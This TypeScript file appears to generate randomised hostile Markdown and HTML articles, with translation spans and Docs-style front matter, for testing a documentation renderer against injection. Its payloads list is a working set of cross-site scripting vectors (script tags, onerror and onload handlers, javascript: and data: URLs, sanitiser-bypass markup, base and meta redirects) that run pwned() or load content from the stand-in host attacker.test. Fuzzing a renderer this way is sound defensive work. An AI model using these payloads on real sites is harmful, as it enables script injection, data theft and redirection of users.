/** Articles as somebody would write them who wants out of them: every way to end something, at every place that becomes a page. */
import { pick } from './random.ts';

/** What a browser that is led astray calls, loads or goes to. */
export const marks = { call: 'pwned()', host: 'attacker.test' } as const;
const { call, host } = marks;

/** Ends of what an article's words stand in: attributes, elements, other languages' texts, templates. */
const ends: readonly string[] = [
  '"', "'", '`', '\\', '\\"', '&quot;', '&#34;', '&#x27;', '">', "'>", '" ', "' ", '=', '/>', '>', '<', '&lt;', '&gt;', '&amp;', '&',
  '</a>', '</b>', '</p>', '</h1>', '</h2>', '</h3>', '</li>', '</ol>', '</td>', '</table>', '</pre>', '</code>', '</span>', '</div>',
  '</article>', '</section>', '</aside>', '</main>', '</body>', '</html>', '</head>', '</title>', '</noscript>', '</textarea>',
  '</script>', '</style>', '</xmp>', '</template>', '</svg>', '</math>', '</select>', '</iframe>', '</noembed>', '</plaintext>',
  '<!--', '-->', '--!>', '<!-->', '<![CDATA[', ']]>', '<?', '?>', '<!doctype html>', '</', '<!', '</ ', '<//',
  ']', ')', '](', '][', '[x]: ', '|', '\n', '\n\n', '\n# ', '\n## ', '\n> ', '\n- ', '\n1. ', '\n```\n', '\n    ', '***', '---\n',
  '{{title}}', '{{items}}', '{{slug}}', '{title}', '$&', '$1', '$$', "$'", '$`', '$<x>', '$t(page.skip)', '${x}', '<%= x %>', '%s', '%3C', '%22',
  '\uE000title\uE001', '\uE000items\uE001', '\uE000', '\uE001',
  '\u0000', '\u0001', '\u000B', '\u000C', '\u001B', '\u007F', '\u0085', '\u00A0', '\u00AD', '\u200B', '\u2028', '\u2029', '\u202E', '\u2066', '\uFEFF', '\uFFFE',
  '＜', '＞', '＂', '\uFE64', '\u0338', 'ﬁ', 'ſ', 'K',
]; // prettier-ignore

/** What runs, loads, leads away or changes how a page is read. */
const payloads: readonly string[] = [
  `<script>${call}</script>`,
  `<script src=//${host}/x.js></script>`,
  `<script src=/fr-fr/payload.md></script>`,
  `<img src=x onerror=${call}>`,
  `<img src=//${host}/x.png srcset="//${host}/y.png 2x">`,
  `<svg onload=${call}>`,
  `<svg><a xlink:href="javascript:${call}"><text>x`,
  `<svg><style><img src=x onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><img src=x onerror=${call}></template>`,
  `<iframe src="javascript:${call}" srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object><embed src=//${host}/x>`,
  `<form action="javascript:${call}"><button formaction="javascript:${call}" autofocus>x</button></form>`,
  `<input type=image src=x onerror=${call} autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<video src=x onerror=${call}></video><audio src=//${host}/x>`,
  `<meta http-equiv=refresh content="0;url=//${host}/">`,
  `<base href=//${host}/>`,
  `<link rel=stylesheet href=//${host}/x.css>`,
  `<style>*{background:url(//${host}/x)}</style>`,
  `<b style="background:url(//${host}/x)" onmouseover=${call} tabindex=0>x</b>`,
  `<a href="javascript:${call}" ping=//${host}/ target=_blank>x</a>`,
  `<a href="java&#9;script:${call}">x</a>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<table background=//${host}/x><td background=//${host}/x>`,
  `<textarea autofocus onfocus=${call}>`,
  `<plaintext>`,
  `<select><template><img src=x onerror=${call}>`,
  `<frameset onload=${call}><frame src=//${host}/>`,
  `<body onload=${call}>`,
  `<html onclick=${call}>`,
  `javascript:${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `JaVaScRiPt&colon;${call}`,
  `//${host}/`,
  `\u0001javascript:${call}`,
  ` onerror=${call} `,
  ` style=position:fixed `,
  ` id=page.content `,
  ` srcset=//${host}/x `,
];

/** Words between them. */
const words: readonly string[] = [
  'Pay',
  ' an invoice ',
  'a',
  ' ',
  'x',
  '1',
  'é',
  '付款',
  'שלום',
  '**b**',
  '`c`',
  '_d_',
  '[e](#sec)',
  '<b>f</b>',
];

/** One piece of text with a way out and something to do there. */
function hostileText(random: () => number): string {
  let text = '';
  for (let count = 1 + Math.floor(random() * 4); count > 0; count--) {
    const which = random();
    text += pick(which < 0.5 ? ends : which < 0.8 ? payloads : words, random);
  }
  return text;
}

/** Where a text can stand in an article; `T` stands for the text, `L` for it in one line. */
const places: readonly string[] = [
  'T', 'L', '    L', '`L`', '```\nT\n```', '~~~ L\nx\n~~~', '# L', '## L', '### <a name="sec"></a>L', '## <a name="sec"></a>[Section](a.md \'L\')',
  '## <a name="sec"></a>[Section](https://a.example/ "L")', '## <a name="L"></a>Section', "## <a name='L' title='L'></a>Section", '## <a id="sec" name=L></a>S',
  '[L](https://a.example/)', '[x](L)', '[x](<L>)', '[x](https://a.example/ "L")', "[x](https://a.example/ 'L')", '[x](https://a.example/?L#L)',
  '[x][r]\n\n[r]: https://a.example/ "L"', '[x][r]\n\n[r]: L', '[L][r]\n\n[r]: #sec', '<L>', '<https://a.example/L>', 'https://a.example/L', 'www.a.example/L',
  '![L](https://a.example/x.png)', '![x](L)', '![x](https://a.example/x.png "L")', '![L](data:image/png;base64,AA==)', '![L](missing.png)',
  '- L\n- L', '1. L\n2. L\n   - L', '> L', '> [!NOTE]\n> L', '> [!L]\n> x', '> [!div class="L"]\n> x', '| L | a |\n|---|---|\n| b | L |',
  'x[^1]\n\n[^1]: L', '[^L]\n\n[^L]: x', '# [L](#tab/x)\n\nL\n\n# [y](#tab/L)\n\n## <a name="sec"></a>x\n\n***', ':::zone pivot="L"\nx\n:::zone-end',
  ':::moniker range="L"\nL\n:::moniker-end', ':::image source="x.png" alt-text="L":::', ':::no-loc text="L":::', ':::row:::\n:::column L:::\nL\n:::column-end:::\n:::row-end:::',
  '[!VIDEO https://L]', '[!INCLUDE [L](x.md)]', '[!code-L[L](x.js)]', '<b title="L">x</b>', "<i aria-label='L' lang='L' dir='L'>x</i>", '<span id="L" class="L">x</span>',
  '<a href="L">x</a>', "<a href='https://a.example/' title='L'>x</a>", '<img src="L" alt="L">', '<iframe src="L">L</iframe>', '<table><tr><td align="L">L</td></tr></table>',
  '<details L><summary>L</summary>T</details>', '<div L>\n\nT\n\n</div>', '<b L>x</b>', '<ol start="L"><li value=L>x</ol>', '<!-- L -->', '<a href="#sec"><h2 id="sec">L</h2></a>',
]; // prettier-ignore

/** A translation with its source, and one of the same source in another language without it. */
export interface HostileArticle {
  readonly bilingual: string;
  readonly plain: string;
}

/** @param name of its files; sets it apart from others */
export function hostileArticle(name: string, random: () => number): HostileArticle {
  const inLine = (): string => hostileText(random).replace(/\s+/g, ' ');
  const filled = (place: string): string =>
    place.replace(/[TL]/g, (kind) => (kind === 'T' ? hostileText(random) : inLine()));
  const header = {
    title: JSON.stringify(`${name} ${inLine()}`),
    description: JSON.stringify(inLine()),
    category: JSON.stringify(inLine()),
    'ms.custom': JSON.stringify(inLine()),
    'ms.openlocfilehash': name,
    'ms.translationtype': 'MT',
  };
  const top = `# <a name="${name}"></a>`;
  const bilingual: string[] = [`${top}${pair(101, `${name} ${inLine()}`, `${name} ${inLine()}`)}`];
  const plain: string[] = [`${top}${name} ${inLine()}`];
  for (let unit = 102, count = 2 + Math.floor(random() * 5); count > 0; count--) {
    const place = pick(places, random);
    const text = filled(place);
    // Half of the time the whole stands in a pair, else only in the translation; the plain file has it line by line in the same place.
    bilingual.push(random() < 0.5 ? pair(unit++, text, filled(place)) : text);
    plain.push(random() < 0.5 ? text : filled(place));
  }
  return {
    bilingual: `${frontMatter({ ...header, 'ms.contentlocale': 'fr-FR' })}${bilingual.join('\n\n')}\n`,
    plain: `${frontMatter({ ...header, 'ms.contentlocale': 'de-DE' })}${plain.join('\n\n')}\n`,
  };
}

function frontMatter(fields: Readonly<Record<string, string>>): string {
  return `---\n${Object.entries(fields)
    .map(([key, value]) => `${key}: ${value}\n`)
    .join('')}---\n`;
}

function pair(unit: number, target: string, source: string): string {
  const id = `0a1b2-${unit}`;
  return `<span data-ttu-id="${id}">${target}</span><span class="sxs-lookup"><span data-stu-id="${id}">${source}</span></span>`;
}
